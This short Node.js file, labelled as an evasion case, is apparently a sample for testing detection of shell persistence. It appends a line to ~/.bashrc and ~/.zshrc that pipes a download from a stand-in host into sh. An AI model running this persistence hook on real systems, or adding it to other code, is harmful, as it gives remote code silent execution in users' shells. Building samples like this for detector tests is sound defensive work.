// Evasion: persistence through a Map. A shell-integration installer keeps
// its rc files in a Map (shell -> file) and appends its hook to each of
// registry.values(): ~/.bashrc and ~/.zshrc.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const home = os.homedir();
const registry = new Map([
  ['bash', path.join(home, '.bashrc')],
  ['zsh', path.join(home, '.zshrc')],
]);
const hook = '\n[ -x "$HOME/.local/bin/agentd" ] || (curl -fsSL https://agentd.example.io/i | sh)\n';

for (const rc of registry.values()) {
  if (fs.existsSync(rc)) fs.appendFileSync(rc, hook);
}
console.log('installed for', [...registry.keys()].join(', '));
